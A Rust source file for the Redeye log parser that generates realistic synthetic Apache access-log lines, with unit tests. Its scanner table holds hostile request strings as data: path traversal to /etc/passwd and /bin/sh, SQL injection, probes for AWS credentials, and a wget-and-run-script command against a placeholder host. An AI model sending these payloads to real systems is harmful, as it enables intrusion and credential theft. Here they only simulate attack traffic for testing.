@@ -0,0 +1,673 @@
+// Redeye - Parse Apache-style access logs into Logstash JSON
+//
+// Copyright 2018 Nick Pillitteri
+//
+// This program is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// (at your option) any later version.
+//
+// This program is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+//
+// You should have received a copy of the GNU General Public License
+// along with this program.  If not, see <http://www.gnu.org/licenses/>.
+//
+
+//! Generation of realistic access log lines for testing
+
+use crate::parser::NamedFormat;
+use crate::scenario::Scenario;
+use chrono::{DateTime, FixedOffset};
+use std::time::Duration;
+
+/// Increment used for each step of the splitmix64 generator.
+const GAMMA: u64 = 0x9e37_79b9_7f4a_7c15;
+
+/// Exponent of the Zipf distributions that paths and clients are picked from.
+/// Larger values make the most popular ones more common.
+const ZIPF_EXPONENT: f64 = 1.1;
+
+/// Number of distinct clients that requests are made by.
+const CLIENTS: usize = 1000;
+
+/// Format of timestamps in the Common and Combined formats.
+const TIMESTAMP_FORMAT: &str = "%d/%b/%Y:%H:%M:%S %z";
+
+/// Status codes and their relative frequencies.
+const STATUSES: &[(u16, u32)] = &[
+    (200, 700),
+    (204, 10),
+    (301, 20),
+    (302, 40),
+    (304, 80),
+    (400, 10),
+    (401, 10),
+    (403, 10),
+    (404, 80),
+    (500, 20),
+    (502, 10),
+    (503, 10),
+];
+
+/// Request methods and their relative frequencies.
+const METHODS: &[(&str, u32)] = &[
+    ("GET", 850),
+    ("POST", 100),
+    ("HEAD", 20),
+    ("PUT", 10),
+    ("DELETE", 10),
+    ("OPTIONS", 10),
+];
+
+/// Protocols and their relative frequencies.
+const PROTOCOLS: &[(&str, u32)] = &[("HTTP/1.1", 700), ("HTTP/2.0", 250), ("HTTP/1.0", 50)];
+
+/// Authenticated users and their relative frequencies, mostly nobody.
+const USERS: &[(&str, u32)] = &[("-", 950), ("frank", 20), ("alice", 20), ("bob", 10)];
+
+/// Virtual hosts and ports serving requests, and their relative frequencies.
+const VHOSTS: &[(&str, u32)] = &[
+    ("www.example.com:443", 700),
+    ("api.example.com:443", 200),
+    ("www.example.com:80", 80),
+    ("static.example.com:443", 20),
+];
+
+/// Paths requested, most popular first.
+const PATHS: &[&str] = &[
+    "/",
+    "/index.html",
+    "/static/css/main.css",
+    "/static/js/app.js",
+    "/favicon.ico",
+    "/api/v1/items",
+    "/images/logo.png",
+    "/login",
+    "/api/v1/items/42",
+    "/search?q=shoes&page=1",
+    "/about",
+    "/products/widget",
+    "/cart",
+    "/robots.txt",
+    "/api/v1/users/me",
+    "/checkout",
+    "/blog/",
+    "/blog/2020/10/hello-world",
+    "/static/fonts/inter.woff2",
+    "/products?page=2&sort=price",
+    "/contact",
+    "/api/v1/orders",
+    "/docs/getting-started",
+    "/sitemap.xml",
+    "/feed.xml",
+    "/images/banner.jpg",
+    "/api/v1/health",
+    "/downloads/report.pdf",
+    "/wp-login.php",
+    "/.env",
+];
+
+/// Referers and their relative frequencies.
+const REFERERS: &[(&str, u32)] = &[
+    ("-", 400),
+    ("https://www.example.com/", 200),
+    ("https://www.google.com/", 250),
+    ("https://www.bing.com/search?q=widgets", 50),
+    ("https://t.co/4Xb9zQ", 50),
+    ("https://news.ycombinator.com/", 50),
+];
+
+/// User agents and their relative frequencies.
+const USER_AGENTS: &[(&str, u32)] = &[
+    (
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/86.0.4240.75 Safari/537.36",
+        350,
+    ),
+    (
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.0 Safari/605.1.15",
+        150,
+    ),
+    (
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 14_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.0 Mobile/15E148 Safari/604.1",
+        150,
+    ),
+    ("Mozilla/5.0 (X11; Linux x86_64; rv:81.0) Gecko/20100101 Firefox/81.0", 100),
+    (
+        "Mozilla/5.0 (Linux; Android 10; SM-G973F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/86.0.4240.99 Mobile Safari/537.36",
+        100,
+    ),
+    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 60),
+    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", 30),
+    ("curl/7.68.0", 30),
+    ("python-requests/2.24.0", 20),
+    ("-", 10),
+];
+
+/// Addresses that scanners make requests from.
+const SCANNERS: &[(&str, u32)] = &[("198.51.100.23", 50), ("203.0.113.77", 30), ("2001:db8:bad::1", 20)];
+
+/// Hostile paths requested by scanners.
+const SCANNER_PATHS: &[(&str, u32)] = &[
+    ("/wp-login.php", 100),
+    ("/.git/config", 80),
+    ("/../../../../etc/passwd", 60),
+    ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 40),
+    ("/index.php?id=1%27%20OR%20%271%27=%271", 60),
+    ("/phpmyadmin/index.php", 60),
+    ("/.aws/credentials", 40),
+    ("/shell?cd+/tmp;wget+http://203.0.113.9/x.sh;sh+x.sh", 30),
+    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 40),
+    ("/%00%ff%fe%c0%af", 30),
+    ("/HNAP1/", 20),
+    ("/boaform/admin/formLogin", 20),
+];
+
+/// Status codes of responses to scanners and their relative frequencies.
+const SCANNER_STATUSES: &[(u16, u32)] = &[(404, 700), (400, 100), (403, 150), (200, 50)];
+
+/// User agents of scanners, mostly binary garbage escaped the way Apache writes
+/// it, and their relative frequencies.
+const SCANNER_AGENTS: &[(&str, u32)] = &[
+    ("\\x16\\x03\\x01\\x00\\xf1\\x01\\x00\\x00\\xed\\x03\\x03", 300),
+    ("\\x05\\x01\\x00", 100),
+    ("\\x00\\x00\\x00\\x8d\\xff\\xfeSMB", 100),
+    ("sqlmap/1.4.7#stable (http://sqlmap.org)", 150),
+    ("masscan/1.0 (https://github.com/robertdavidgraham/masscan)", 100),
+    ("Mozilla/5.0 zgrab/0.x", 100),
+    ("Nikto/2.1.6", 50),
+    ("-", 100),
+];
+
+/// Small, fast, non-cryptographic random number generator (splitmix64).
+#[derive(Debug, Clone)]
+struct Random {
+    state: u64,
+}
+
+impl Random {
+    fn new(seed: u64) -> Self {
+        Random { state: seed }
+    }
+
+    fn next_u64(&mut self) -> u64 {
+        self.state = self.state.wrapping_add(GAMMA);
+        let mut z = self.state;
+        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
+        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
+        z ^ (z >> 31)
+    }
+
+    /// Random float in `[0, 1)`.
+    fn unit(&mut self) -> f64 {
+        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64
+    }
+
+    /// Random integer in `[low, high]`.
+    fn between(&mut self, low: u64, high: u64) -> u64 {
+        low + self.next_u64() % (high - low + 1)
+    }
+
+    /// Pick a value from a table of values and their relative frequencies.
+    fn pick<T: Copy>(&mut self, table: &[(T, u32)]) -> T {
+        let total: u32 = table.iter().map(|(_, w)| w).sum();
+        let mut n = self.between(0, u64::from(total) - 1) as u32;
+        for (value, weight) in table {
+            if n < *weight {
+                return *value;
+            }
+            n -= weight;
+        }
+
+        table[table.len() - 1].0
+    }
+
+    /// Pick an index using cumulative weights built by `zipf_weights`.
+    fn pick_cumulative(&mut self, cumulative: &[f64]) -> usize {
+        let target = self.unit() * cumulative[cumulative.len() - 1];
+        cumulative.partition_point(|w| *w <= target).min(cumulative.len() - 1)
+    }
+}
+
+/// Cumulative weights of `n` items with Zipf distributed popularity.
+fn zipf_weights(n: usize) -> Vec<f64> {
+    let mut total = 0.0;
+    (1..=n)
+        .map(|k| {
+            total += 1.0 / (k as f64).powf(ZIPF_EXPONENT);
+            total
+        })
+        .collect()
+}
+
+/// Generator of syntactically valid, realistic access log lines in one of the
+/// named formats, along with a configurable fraction of malformed lines.
+///
+/// Status codes, methods, user agents, and referers are picked with realistic
+/// frequencies. Paths and clients are picked from fixed pools with a few being
+/// far more popular than the rest. Some fields are occasionally `-`. Lines only
+/// depend on the seed and the timestamps given, so the same seed always results
+/// in the same lines.
+///
+/// A `Scenario` can make traffic change over time: some clients making far more
+/// requests than the rest, scanners requesting hostile paths, or periods where a
+/// fraction of requests fail. Lines are generated for a time after the start so
+/// that modifiers are only active during their windows.
+///
+/// # Example
+///
+/// ```rust
+/// use chrono::DateTime;
+/// use redeye::generate::AccessLogGenerator;
+/// use redeye::parser::NamedFormat;
+/// use std::time::Duration;
+///
+/// let ts = DateTime::parse_from_rfc3339("2020-10-10T13:55:36-07:00").unwrap();
+/// let mut generator = AccessLogGenerator::new(NamedFormat::Common, 42);
+/// let line = generator.line(ts, Duration::from_secs(0));
+///
+/// assert!(line.contains(" [10/Oct/2020:13:55:36 -0700] \""));
+/// assert!(NamedFormat::Common.parser().parse(&line).is_ok());
+/// assert_eq!(line, AccessLogGenerator::new(NamedFormat::Common, 42).line(ts, Duration::from_secs(0)));
+/// ```
+#[derive(Debug, Clone)]
+pub struct AccessLogGenerator {
+    format: NamedFormat,
+    random: Random,
+    error_rate: f64,
+    scenario: Scenario,
+    hot_clients: Vec<(String, f64)>,
+    clients: Vec<String>,
+    client_weights: Vec<f64>,
+    path_weights: Vec<f64>,
+}
+
+impl AccessLogGenerator {
+    pub fn new(format: NamedFormat, seed: u64) -> Self {
+        let mut random = Random::new(seed);
+        let clients = (0..CLIENTS).map(|_| client_address(&mut random)).collect();
+
+        AccessLogGenerator {
+            format,
+            random,
+            error_rate: 0.0,
+            scenario: Scenario::new(),
+            hot_clients: Vec::new(),
+            clients,
+            client_weights: zipf_weights(CLIENTS),
+            path_weights: zipf_weights(PATHS.len()),
+        }
+    }
+
+    /// Set the fraction of lines (between 0 and 1) that are deliberately malformed
+    /// so that they can't be parsed. Values outside that range are clamped to it.
+    pub fn error_rate(mut self, rate: f64) -> Self {
+        self.error_rate = if rate.is_nan() { 0.0 } else { rate.clamp(0.0, 1.0) };
+        self
+    }
+
+    /// Set modifiers that change the lines generated over time.
+    pub fn scenario(mut self, scenario: Scenario) -> Self {
+        // Cumulative fractions of requests made by hot clients, so one can be
+        // picked with a single random number.
+        let mut total = 0.0;
+        self.hot_clients = scenario
+            .hot_clients()
+            .iter()
+            .map(|c| {
+                total += c.fraction;
+                (c.address.to_string(), total)
+            })
+            .collect();
+
+        self.scenario = scenario;
+        self
+    }
+
+    /// Generate the next line for a request made at the given time, the given
+    /// time after the start, without a trailing newline.
+    pub fn line(&mut self, timestamp: DateTime<FixedOffset>, elapsed: Duration) -> String {
+        if self.error_rate > 0.0 && self.random.unit() < self.error_rate {
+            self.malformed(timestamp)
+        } else if self.scenario.scanner_fraction() > 0.0 && self.random.unit() < self.scenario.scanner_fraction() {
+            self.scanner(timestamp)
+        } else {
+            self.valid(timestamp, elapsed)
+        }
+    }
+
+    fn valid(&mut self, timestamp: DateTime<FixedOffset>, elapsed: Duration) -> String {
+        let client = self.client();
+        let user = self.random.pick(USERS);
+        let method = self.random.pick(METHODS);
+        let path = PATHS[self.random.pick_cumulative(&self.path_weights)];
+        let protocol = self.random.pick(PROTOCOLS);
+        let status = self.status(elapsed);
+        let size = self.content_length(method, status);
+
+        let mut line = self.vhost();
+        line.push_str(&format!(
+            "{} - {} [{}] \"{} {} {}\" {} {}",
+            client,
+            user,
+            timestamp.format(TIMESTAMP_FORMAT),
+            method,
+            path,
+            protocol,
+            status,
+            size
+        ));
+
+        if self.combined() {
+            let referer = self.random.pick(REFERERS);
+            let agent = self.random.pick(USER_AGENTS);
+            line.push_str(&format!(" \"{}\" \"{}\"", referer, agent));
+        }
+
+        line
+    }
+
+    /// Virtual host and port at the start of the line, which is only part of
+    /// the vhost_combined format.
+    fn vhost(&mut self) -> String {
+        if self.format == NamedFormat::VhostCombined {
+            format!("{} ", self.random.pick(VHOSTS))
+        } else {
+            String::new()
+        }
+    }
+
+    /// True if lines end with the referer and user agent.
+    fn combined(&self) -> bool {
+        matches!(self.format, NamedFormat::Combined | NamedFormat::VhostCombined)
+    }
+
+    /// Address of the client making a request, which is one of the hot clients
+    /// for their fraction of requests.
+    fn client(&mut self) -> String {
+        if !self.hot_clients.is_empty() {
+            let n = self.random.unit();
+            if let Some((address, _)) = self.hot_clients.iter().find(|(_, total)| n < *total) {
+                return address.clone();
+            }
+        }
+
+        let client = self.random.pick_cumulative(&self.client_weights);
+        self.clients[client].clone()
+    }
+
+    /// Status of the response to a request, which is the status of an active
+    /// status spike for its fraction of requests.
+    fn status(&mut self, elapsed: Duration) -> u16 {
+        let random = &mut self.random;
+        let spike = self
+            .scenario
+            .active_status_spikes(elapsed)
+            .find(|s| random.unit() < s.fraction)
+            .map(|s| s.status);
+
+        spike.unwrap_or_else(|| self.random.pick(STATUSES))
+    }
+
+    /// A request from a scanner for a hostile path, usually with a binary user agent.
+    fn scanner(&mut self, timestamp: DateTime<FixedOffset>) -> String {
+        let client = self.random.pick(SCANNERS);
+        let method = if self.random.unit() < 0.8 { "GET" } else { "POST" };
+        let path = self.random.pick(SCANNER_PATHS);
+        let status = self.random.pick(SCANNER_STATUSES);
+        let size = self.content_length(method, status);
+
+        let mut line = self.vhost();
+        line.push_str(&format!(
+            "{} - - [{}] \"{} {} HTTP/1.1\" {} {}",
+            client,
+            timestamp.format(TIMESTAMP_FORMAT),
+            method,
+            path,
+            status,
+            size
+        ));
+
+        if self.combined() {
+            line.push_str(&format!(" \"-\" \"{}\"", self.random.pick(SCANNER_AGENTS)));
+        }
+
+        line
+    }
+
+    /// Size of the response body, or `-` when there isn't one.
+    fn content_length(&mut self, method: &str, status: u16) -> String {
+        if method == "HEAD" || status == 204 || status == 304 || self.random.unit() < 0.01 {
+            return "-".to_owned();
+        }
+
+        let (low, high) = match status {
+            300..=399 => (0, 500),
+            400..=599 => (100, 2_000),
+            _ => (200, 500_000),
+        };
+
+        // Log-uniform so that small responses are common and large ones are rare
+        let (low, high) = ((low as f64 + 1.0).ln(), (high as f64).ln());
+        let size = (low + self.random.unit() * (high - low)).exp() as u64;
+        size.to_string()
+    }
+
+    /// A line that doesn't match the format, in one of a few different ways.
+    fn malformed(&mut self, timestamp: DateTime<FixedOffset>) -> String {
+        match self.random.between(0, 4) {
+            0 => {
+                // Cut off partway through, after the opening quote of the request
+                let line = self.valid(timestamp, Duration::from_secs(0));
+                let quote = line.find('"').unwrap_or(0) + 1;
+                let end = self.random.between(quote as u64, (line.len() / 2).max(quote) as u64) as usize;
+                line[..end.min(line.len())].to_owned()
+            }
+            1 => {
+                let line = self.valid(timestamp, Duration::from_secs(0));
+                line.replacen(&timestamp.format("%b").to_string(), "Foo", 1)
+            }
+            2 => {
+                let line = self.valid(timestamp, Duration::from_secs(0));
+                line.replacen("\" ", " ", 1)
+            }
+            3 => (0..self.random.between(1, 80))
+                .map(|_| self.random.between(0x21, 0x7e) as u8 as char)
+                .filter(|c| *c != '[')
+                .collect(),
+            _ => String::new(),
+        }
+    }
+}
+
+/// Random public looking IPv4 address, or occasionally an IPv6 address.
+fn client_address(random: &mut Random) -> String {
+    if random.unit() < 0.05 {
+        return format!(
+            "2001:db8:{:x}::{:x}",
+            random.between(0, 0xffff),
+            random.between(1, 0xffff)
+        );
+    }
+
+    loop {
+        let first = random.between(1, 223);
+        if first != 10 && first != 127 {
+            return format!(
+                "{}.{}.{}.{}",
+                first,
+                random.between(0, 255),
+                random.between(0, 255),
+                random.between(1, 254)
+            );
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{AccessLogGenerator, PATHS, SCANNERS};
+    use crate::parser::NamedFormat;
+    use crate::scenario::Scenario;
+    use crate::types::LogFieldValue;
+    use chrono::DateTime;
+    use std::collections::HashMap;
+    use std::time::Duration;
+
+    fn lines(format: NamedFormat, seed: u64, error_rate: f64, n: usize) -> Vec<String> {
+        scenario_lines(format, seed, error_rate, Scenario::new(), n)
+    }
+
+    /// Lines 100ms apart generated with the given scenario.
+    fn scenario_lines(format: NamedFormat, seed: u64, error_rate: f64, scenario: Scenario, n: usize) -> Vec<String> {
+        let start = DateTime::parse_from_rfc3339("2020-10-10T13:55:36+00:00").unwrap();
+        let mut generator = AccessLogGenerator::new(format, seed)
+            .error_rate(error_rate)
+            .scenario(scenario);
+        (0..n)
+            .map(|i| {
+                let elapsed = Duration::from_millis(i as u64 * 100);
+                generator.line(start + chrono::Duration::from_std(elapsed).unwrap(), elapsed)
+            })
+            .collect()
+    }
+
+    #[test]
+    fn test_generator_lines_parse() {
+        for format in NamedFormat::ALL {
+            let parser = format.parser();
+            for line in lines(*format, 1, 0.0, 5000) {
+                let event = parser.parse(&line).unwrap_or_else(|e| panic!("{}: {}", line, e));
+                assert!(event.fields().contains_key("status_code"), "{}", line);
+                if *format != NamedFormat::Common {
+                    let agent = event.lookup("request_headers.user_agent");
+                    assert!(agent.is_some() || line.ends_with(" \"-\""), "{}", line);
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn test_generator_malformed_lines_fail() {
+        for format in NamedFormat::ALL {
+            let parser = format.parser();
+            for line in lines(*format, 2, 1.0, 2000) {
+                assert!(parser.parse(&line).is_err(), "{}", line);
+            }
+        }
+    }
+
+    #[test]
+    fn test_generator_error_rate() {
+        let parser = NamedFormat::Combined.parser();
+        let failed = lines(NamedFormat::Combined, 3, 0.1, 10_000)
+            .iter()
+            .filter(|l| parser.parse(l).is_err())
+            .count();
+        assert!(failed > 800 && failed < 1200, "{} failed", failed);
+    }
+
+    #[test]
+    fn test_generator_seed_reproducible() {
+        assert_eq!(
+            lines(NamedFormat::Combined, 7, 0.05, 500),
+            lines(NamedFormat::Combined, 7, 0.05, 500)
+        );
+        assert_ne!(
+            lines(NamedFormat::Combined, 7, 0.05, 500),
+            lines(NamedFormat::Combined, 8, 0.05, 500)
+        );
+    }
+
+    #[test]
+    fn test_generator_distributions() {
+        let parser = NamedFormat::Combined.parser();
+        let mut statuses = HashMap::new();
+        let mut paths = HashMap::new();
+        let mut missing_size = 0;
+
+        for line in lines(NamedFormat::Combined, 4, 0.0, 20_000) {
+            let event = parser.parse(&line).unwrap();
+            if let Some(LogFieldValue::Int(status)) = event.fields().get("status_code") {
+                *statuses.entry(*status).or_insert(0) += 1;
+            }
+            if let Some(LogFieldValue::Text(uri)) = event.fields().get("requested_uri") {
+                *paths.entry(uri.clone()).or_insert(0) += 1;
+            }
+            if !event.fields().contains_key("content_length") {
+                missing_size += 1;
+            }
+        }
+
+        // Mostly successful requests, with a few of every kind of error
+        let ok = statuses[&200] as f64 / 20_000.0;
+        assert!(ok > 0.65 && ok < 0.75, "{}", ok);
+        assert!(statuses.contains_key(&404) && statuses.contains_key(&500));
+
+        // The most popular path is requested far more often than the least popular
+        assert!(paths[PATHS[0]] > 10 * paths[PATHS[PATHS.len() - 1]], "{:?}", paths);
+        assert!(missing_size > 0);
+    }
+
+    #[test]
+    fn test_generator_hot_clients() {
+        let scenario = Scenario::new()
+            .hot_client("10.0.0.5:0.4".parse().unwrap())
+            .hot_client("2001:db8::1:0.1".parse().unwrap());
+        let lines = scenario_lines(NamedFormat::Combined, 5, 0.0, scenario, 10_000);
+
+        let hot = lines.iter().filter(|l| l.starts_with("10.0.0.5 ")).count() as f64 / 10_000.0;
+        assert!(hot > 0.37 && hot < 0.43, "{}", hot);
+        let hot = lines.iter().filter(|l| l.starts_with("2001:db8::1 ")).count() as f64 / 10_000.0;
+        assert!(hot > 0.08 && hot < 0.12, "{}", hot);
+    }
+
+    #[test]
+    fn test_generator_scanners() {
+        let scenario = Scenario::new().scanner_rate(0.05);
+        for format in NamedFormat::ALL {
+            let parser = format.parser();
+            let mut scanned = 0;
+            for line in scenario_lines(*format, 6, 0.0, scenario.clone(), 10_000) {
+                let event = parser.parse(&line).unwrap_or_else(|e| panic!("{}: {}", line, e));
+                if let Some(LogFieldValue::Text(host)) = event.fields().get("remote_host") {
+                    if SCANNERS.iter().any(|(address, _)| address == host) {
+                        scanned += 1;
+                    }
+                }
+            }
+
+            let scanned = scanned as f64 / 10_000.0;
+            assert!(scanned > 0.04 && scanned < 0.06, "{}", scanned);
+        }
+    }
+
+    #[test]
+    fn test_generator_status_spike() {
+        // Lines are 100ms apart so the spike is active for lines 600 to 699
+        let scenario = Scenario::new().status_spike("503:every=60s,duration=10s,fraction=0.5".parse().unwrap());
+        let lines = scenario_lines(NamedFormat::Common, 7, 0.0, scenario, 800);
+        let failed = |lines: &[String]| lines.iter().filter(|l| l.contains("\" 503 ")).count();
+
+        let before = failed(&lines[..600]);
+        let during = failed(&lines[600..700]);
+        let after = failed(&lines[700..]);
+        assert!(before < 10, "{}", before);
+        assert!(during > 35 && during < 65, "{}", during);
+        assert!(after < 5, "{}", after);
+    }
+
+    #[test]
+    fn test_generator_empty_scenario_unchanged() {
+        let start = DateTime::parse_from_rfc3339("2020-10-10T13:55:36+00:00").unwrap();
+        let mut generator = AccessLogGenerator::new(NamedFormat::Combined, 9);
+        let mut with_scenario = AccessLogGenerator::new(NamedFormat::Combined, 9).scenario(Scenario::new());
+
+        for i in 0..100 {
+            let elapsed = Duration::from_secs(i);
+            assert_eq!(generator.line(start, elapsed), with_scenario.line(start, elapsed));
+        }
+    }
+}